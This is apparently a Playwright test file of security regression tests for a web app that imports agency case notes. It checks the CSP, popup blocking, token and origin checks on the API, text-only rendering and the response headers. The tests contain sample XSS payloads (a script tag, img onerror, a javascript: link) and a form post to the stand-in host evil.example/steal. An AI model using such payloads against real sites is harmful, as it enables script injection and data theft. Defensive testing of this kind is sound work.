// Security regressions in real Chromium against the real web host (the Electron-only ones are in
// electron.spec.ts): the CSP is in force, no popups, the API refuses callers without the token or
// from another origin, agency text never becomes markup, and the page makes no request anywhere
// but its own host.
import { expect, test, type APIRequestContext, type Page } from '@playwright/test';
import { startHost, type RunningHost } from './web-host';

let host: RunningHost;
let token: string;
let origin: string;
test.beforeEach(async () => {
  host = await startHost();
  token = new URL(host.url).hash.replace('#token=', '');
  origin = new URL(host.url).origin;
});
test.afterEach(async () => {
  await host.stop();
});

/** Agency text written to attack the page if it were ever treated as HTML. */
const HOSTILE =
  'Seen at <a href="https://evil.example/x">click here</a> <img src="https://evil.example/pixel.png" onerror="window.__pwned=1"> <script>window.__pwned=2</script> javascript:alert(1)';

async function api(request: APIRequestContext, method: string, args: unknown[], headers: Record<string, string> = {}) {
  return request.post(`${origin}/api/${method}`, { headers: { 'content-type': 'application/json', 'x-jigsaw-token': token, ...headers }, data: JSON.stringify(args) });
}

async function importHostile(request: APIRequestContext): Promise<void> {
  const csv = `Date,Contact type,Notes\n13/02/2023,Home visit,"${HOSTILE.replaceAll('"', '""')}"\n`;
  const staged = await api(request, 'stageFile', [{ fileName: 'hostile.csv', bytes: { $bytes: Buffer.from(csv).toString('base64') } }]);
  const { value } = (await staged.json()) as { value: { stagedId: string } };
  const imported = await api(request, 'importStaged', [{ stagedId: value.stagedId, agency: 'Police' }]);
  expect(((await imported.json()) as { ok: boolean }).ok).toBe(true);
}

async function openApp(page: Page): Promise<void> {
  await page.goto(host.url);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

test('the Content-Security-Policy is in force: an injected inline script does not run', async ({ page }) => {
  await openApp(page);
  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.appendChild(s);
    await new Promise((r) => setTimeout(r, 100));
    return { ran: (window as unknown as { __injected?: boolean }).__injected === true, violations };
  });
  expect(result.ran).toBe(false);
  expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem']));
});

test('window.open opens nothing, and a form cannot post the page away', async ({ page, context }) => {
  await openApp(page);
  let popups = 0;
  context.on('page', () => popups++);
  const opened = await page.evaluate(() => [window.open('https://evil.example/'), window.open('/')].map((w) => w === null));
  expect(opened).toEqual([true, true]);
  const before = page.url();
  await page.evaluate(() => {
    const f = document.createElement('form');
    f.action = 'https://evil.example/steal';
    f.method = 'post';
    document.body.appendChild(f);
    f.submit();
  });
  await page.waitForTimeout(300);
  expect(page.url()).toBe(before);
  expect(popups).toBe(0);
});

test('the API refuses calls without the token and calls from another origin', async ({ page, request }) => {
  const noToken = await request.post(`${origin}/api/getCase`, { headers: { 'content-type': 'application/json' }, data: '[]' });
  expect(noToken.status()).toBe(403);
  const wrongToken = await api(request, 'getCase', [], { 'x-jigsaw-token': 'x'.repeat(token.length) });
  expect(wrongToken.status()).toBe(403);
  const foreign = await api(request, 'getCase', [], { origin: 'https://evil.example' });
  expect(foreign.status()).toBe(403);
  expect(await foreign.text()).toContain('another origin');
  const crossSite = await api(request, 'getCase', [], { 'sec-fetch-site': 'cross-site' });
  expect(crossSite.status()).toBe(403);
  expect((await api(request, 'getCase', [])).status()).toBe(200);

  // A real page on another origin (localhost:port is not 127.0.0.1:port) that even holds the token.
  const other = origin.replace('127.0.0.1', 'localhost');
  await page.goto(`${other}/`);
  const outcome = await page.evaluate(
    async ({ target, t }) => {
      try {
        const r = await fetch(`${target}/api/getCase`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-jigsaw-token': t }, body: '[]' });
        return `status ${r.status}`;
      } catch {
        return 'blocked';
      }
    },
    { target: origin, t: token },
  );
  expect(outcome).toBe('blocked');
});

test('agency text is shown as text: no link, image or script from it, and no request leaves the host', async ({ page, request }) => {
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await importHostile(request);
  await openApp(page);
  const item = page.getByTestId('timeline').locator('.vis-item-content').first();
  await expect(item).toBeVisible();
  await item.click();
  const detail = page.getByRole('complementary', { name: 'Entry detail' });
  await expect(detail.getByTestId('entry-text')).toContainText('<a href="https://evil.example/x">click here</a>');
  await page.getByText('click here').first().click({ force: true }).catch(() => undefined);
  await page.waitForTimeout(300);

  expect(await page.locator('a[href*="evil.example"], img[src*="evil.example"], script:not([src])').count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(new URL(page.url()).origin).toBe(origin);
  expect(requests.length).toBeGreaterThan(3);
  expect(requests.filter((u) => new URL(u).origin !== origin)).toEqual([]);
});

test('every response carries the security headers; powerful features are off', async ({ page }) => {
  const response = await page.goto(host.url);
  const h = response!.headers();
  expect(h['content-security-policy']).toMatch(/script-src 'self'/);
  expect(h['content-security-policy']).toMatch(/sandbox (?!.*allow-popups)/);
  expect(h['x-frame-options']).toBe('DENY');
  expect(h['cross-origin-opener-policy']).toBe('same-origin');
  expect(h['permissions-policy']).toContain('geolocation=()');
  const geo = await page.evaluate(
    () => new Promise<string>((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), (e) => resolve(`denied ${e.code}`))),
  );
  expect(geo).toBe('denied 1');
});
